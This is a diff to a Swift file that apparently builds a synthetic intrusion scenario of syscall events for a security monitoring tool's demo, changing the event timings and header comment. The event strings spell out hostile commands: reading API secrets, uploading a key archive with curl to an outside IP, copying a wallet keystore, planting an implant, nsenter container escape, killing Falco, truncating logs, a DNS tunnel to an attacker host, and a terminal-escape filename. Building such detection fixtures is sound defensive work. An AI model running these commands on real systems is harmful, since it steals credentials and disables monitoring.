@@ -1,9 +1,10 @@
 import TradsecCore
 
 /// The bundled incident: a trading host with three containers and the host itself, five
-/// minutes of normal trading, then an intrusion into the trading bot — a shell, the API keys
-/// read, an unknown "exchange" contacted, the keys packed and sent out, a wallet copied — a
-/// foothold in the exchange connector, and an attempt to stop Falco and erase the trading log.
+/// minutes of trading. Half a minute of normal activity, then an intrusion into the trading
+/// bot — a shell, the API keys read, an unknown "exchange" contacted, the keys packed and sent
+/// out, a wallet copied — a foothold in the exchange connector, an attempt to stop Falco and
+/// to erase the trading log; normal trading goes on underneath until the end.
 ///
 /// Built in code (not read from a file) so `tradsec demo` works wherever the binary is.
 /// Events are raw syscall events in the engine's JSON Lines shape; `offset` is seconds from
@@ -47,29 +48,29 @@ enum IncidentScenario {
         b.open(120, nil, "logrotate", "logrotate /etc/logrotate.conf", "/var/log/trading/orders.log", write: true, flags: "O_WRONLY|O_TRUNC")
 
         // The intrusion, through the trading bot's web hook.
-        b.exec(90, bot, "bash", "bash -i", parent: "python3", tty: 34816)
-        b.open(97, bot, "cat", "cat /app/.env", "/app/.env")
-        b.open(104, bot, "cat", "cat /run/secrets/binance_api_secret", "/run/secrets/binance_api_secret")
-        b.exec(112, bot, "curl", "curl -s https://api.bnance-pro.example/v3/ping", parent: "bash")
-        b.connect(112.3, bot, "curl", "curl -s https://api.bnance-pro.example/v3/ping", ip: "203.0.113.77", port: 443)
-        b.exec(125, bot, "tar", "tar czf /tmp/k.tgz /app/.env /app/config", parent: "bash")
-        b.open(125.2, bot, "tar", "tar czf /tmp/k.tgz /app/.env /app/config", "/app/.env")
-        b.open(131, bot, "cat", "cat /app/data/fills-2026-11.parquet", "/app/data/fills-2026-11.parquet")
-        b.exec(138, bot, "curl", "curl -T /tmp/k.tgz https://198.51.100.23:8443/u", parent: "bash")
-        b.connect(138.4, bot, "curl", "curl -T /tmp/k.tgz https://198.51.100.23:8443/u", ip: "198.51.100.23", port: 8443)
-        b.open(150, bot, "cp", "cp -r /home/bot/.ethereum /tmp/w", "/home/bot/.ethereum/keystore/UTC--2026-01-02T10-00-00.0Z--a1b2")
+        b.exec(30, bot, "bash", "bash -i", parent: "python3", tty: 34816)
+        b.open(37, bot, "cat", "cat /app/.env", "/app/.env")
+        b.open(44, bot, "cat", "cat /run/secrets/binance_api_secret", "/run/secrets/binance_api_secret")
+        b.exec(52, bot, "curl", "curl -s https://api.bnance-pro.example/v3/ping", parent: "bash")
+        b.connect(52.3, bot, "curl", "curl -s https://api.bnance-pro.example/v3/ping", ip: "203.0.113.77", port: 443)
+        b.exec(65, bot, "tar", "tar czf /tmp/k.tgz /app/.env /app/config", parent: "bash")
+        b.open(65.2, bot, "tar", "tar czf /tmp/k.tgz /app/.env /app/config", "/app/.env")
+        b.open(71, bot, "cat", "cat /app/data/fills-2026-11.parquet", "/app/data/fills-2026-11.parquet")
+        b.exec(78, bot, "curl", "curl -T /tmp/k.tgz https://198.51.100.23:8443/u", parent: "bash")
+        b.connect(78.4, bot, "curl", "curl -T /tmp/k.tgz https://198.51.100.23:8443/u", ip: "198.51.100.23", port: 8443)
+        b.open(90, bot, "cp", "cp -r /home/bot/.ethereum /tmp/w", "/home/bot/.ethereum/keystore/UTC--2026-01-02T10-00-00.0Z--a1b2")
         // A foothold in the exchange connector.
-        b.exec(170, connector, "sh", "sh -c id", parent: "python3")
-        b.exec(176, connector, "apt-get", "apt-get install -y nmap", parent: "sh")
-        b.open(190, connector, "cp", "cp /tmp/implant /usr/bin/ls", "/usr/bin/ls", write: true)
-        b.exec(205, connector, "nsenter", "nsenter -t 1 -m -u -i -n sh", parent: "sh")
+        b.exec(110, connector, "sh", "sh -c id", parent: "python3")
+        b.exec(116, connector, "apt-get", "apt-get install -y nmap", parent: "sh")
+        b.open(130, connector, "cp", "cp /tmp/implant /usr/bin/ls", "/usr/bin/ls", write: true)
+        b.exec(145, connector, "nsenter", "nsenter -t 1 -m -u -i -n sh", parent: "sh")
         // Covering tracks on the host.
-        b.exec(220, nil, "pkill", "pkill -9 falco", parent: "bash")
-        b.exec(226, nil, "systemctl", "systemctl stop falco-modern-bpf", parent: "bash")
-        b.exec(232, bot, "truncate", "truncate -s0 /var/log/trading/orders.log", parent: "bash")
-        b.exec(240, bot, "iodine", "iodine -f -P hunter2 t1.attacker.example", parent: "bash")
+        b.exec(160, nil, "pkill", "pkill -9 falco", parent: "bash")
+        b.exec(166, nil, "systemctl", "systemctl stop falco-modern-bpf", parent: "bash")
+        b.exec(172, bot, "truncate", "truncate -s0 /var/log/trading/orders.log", parent: "bash")
+        b.exec(180, bot, "iodine", "iodine -f -P hunter2 t1.attacker.example", parent: "bash")
         // An alert whose text carries terminal escape sequences: the console must show them escaped.
-        b.open(250, bot, "cat", "cat /app/secrets/\u{1b}]0;owned\u{07}\u{1b}[2J.key", "/app/secrets/\u{1b}]0;owned\u{07}\u{1b}[2J.key")
+        b.open(190, bot, "cat", "cat /app/secrets/\u{1b}]0;owned\u{07}\u{1b}[2J.key", "/app/secrets/\u{1b}]0;owned\u{07}\u{1b}[2J.key")
         return b.steps.sorted { $0.offset < $1.offset }
     }
 
